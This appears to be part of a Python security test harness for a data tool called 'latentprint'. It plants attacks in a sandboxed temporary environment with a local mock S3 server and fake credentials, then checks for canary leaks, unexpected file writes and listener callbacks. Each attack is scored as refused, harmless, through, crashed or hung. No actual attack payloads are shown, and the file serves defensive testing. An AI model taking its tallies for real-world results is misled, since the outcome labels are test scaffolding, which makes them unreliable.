def run_attack(attack: Attack, world: World, callers: list[object]) -> Result:
    """Plant, run, and look what changed."""
    attack.plant(world)
    before, n_callers, started = seen(world), len(callers), time.monotonic()
    arguments = list(map(world.filled, attack.command))
    code, output, error = (called if arguments[0] in (ASK, TAKE_IN) else commanded)(world, arguments)
    words = " ".join((error.strip() or output.strip()).replace(str(world.root), "").split())[:160]
    kind = "hung" if code is None else judged(code, output, error)
    after = seen(world)
    reached = [name for name in {*before, *after} if before.get(name) != after.get(name)]
    reached = [name for name in reached if not name.startswith((*attack.may_write, "home/.prefect", "home/.cache/"))]
    taken = [name for name in after if after[name] != before.get(name) and CANARY.encode() in after[name][1]]
    reached += [name for name in taken if name.startswith("out/")]
    if reached or len(callers) > n_callers:
        kind, words = "through", f"{sorted(reached)[:3]} {words}"
    return Result(attack.name, kind, round(time.monotonic() - started, 1), words)


def called(world: World, arguments: list[str]) -> tuple[int | None, str, str]:
    """Exit code, output, errors, as of a command."""
    door, text = arguments
    try:
        if door == TAKE_IN:
            shard_split.fn(world.out / "run", "train", text, ShardParameters(max_bad_fraction=1.0))
            return 0, "", ""
        with latentprint.open_run(world.run.path, seconds=float(QUERY_SECONDS)) as run:
            return 0, str(run.query(text).to_pylist()), ""
    except latentprint.UserError as error:
        return 2, "", visible_lines(error, 4000)
    except Exception:  # the attack's, and told as such
        return 1, "", traceback.format_exc()


def commanded(world: World, arguments: list[str]) -> tuple[int | None, str, str]:
    """Exit code (None: it had to be killed), output, errors."""
    environment = {**os.environ, "HOME": str(world.root / "home"), "TMPDIR": str(world.root / "tmp")}
    with subprocess.Popen(
        [sys.executable, "-m", "latentprint", *arguments],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**environment, "LATENTPRINT_STAGING": str(world.root / "staging")},
        start_new_session=True,
    ) as process:
        try:
            raw, code = process.communicate(timeout=HANGS_AFTER), process.wait()
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            raw, code = process.communicate(), None
    output, error = (stream.decode(errors="replace") for stream in raw)
    return code, output, error


def judged(code: int, output: str, error: str) -> str:
    """By what a command printed, and its exit code."""
    if CANARY in output + error or set(CONTROLS) & set(output + error):
        return "through"
    if "Traceback" in error or code not in (0, 1, 2, 3):
        return "crashed"
    return "refused" if code == 2 else "harmless"


def summary(results: list[Result]) -> Mapping[str, Any]:
    """How many of each group came to what."""
    groups: dict[str, Counter[str]] = {}
    for result in results:
        groups.setdefault(result.attack.split(":")[0].split(" ")[0], Counter(tried=0))[result.kind] += 1
    kinds = ("refused", "harmless", "through", "crashed", "hung")
    return {
        group: {"tried": sum(counts.values()), **{kind: counts[kind] for kind in kinds}}
        for group, counts in [*groups.items(), ("all", sum(groups.values(), Counter()))]
    }


def main() -> None:
    attacks = [attack for group in ATTACKS for attack in group() if attack.name.startswith(tuple(sys.argv[1:]) or "")]
    from moto.server import ThreadedMotoServer

    os.environ |= {
        "LATENTPRINT_CANARY": CANARY,
        "AWS_ACCESS_KEY_ID": "test",
        "AWS_SECRET_ACCESS_KEY": "test",
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    logging.getLogger("werkzeug").setLevel(logging.ERROR)
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    store = f"?endpoint_override={host}:{port}&scheme=http&region=us-east-1&allow_bucket_creation=true"
    pafs.FileSystem.from_uri(f"s3://runs{store}")[0].create_dir("runs")
    results = []
    with TemporaryDirectory(prefix="escapes-") as name, listening() as (silent, callers):
        folder = Path(name)
        os.environ["PREFECT_HOME"] = str(folder / "prefect")
        configure_environment()
        with prefect_server(), suppress(KeyboardInterrupt):
            (folder / "inputs").mkdir()
            inputs(folder / "inputs")
            for attack in attacks:
                result = run_attack(attack, new_world(folder, store, silent), callers)
                results.append(result)
                print(
                    f"{result.kind:8} {result.seconds:6.1f} s {result.attack[:90]!r} {result.words!r}",
                    file=sys.stderr,
                    flush=True,
                )
    server.stop()
    largest = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 2**20
    rows = [{**result._asdict(), "attack": result.attack[:120]} for result in results]
    print(
        json.dumps({"summary": summary(results), "largest_process_gib": round(largest, 2), "attacks": rows}, indent=2)
    )


if __name__ == "__main__":
    main()
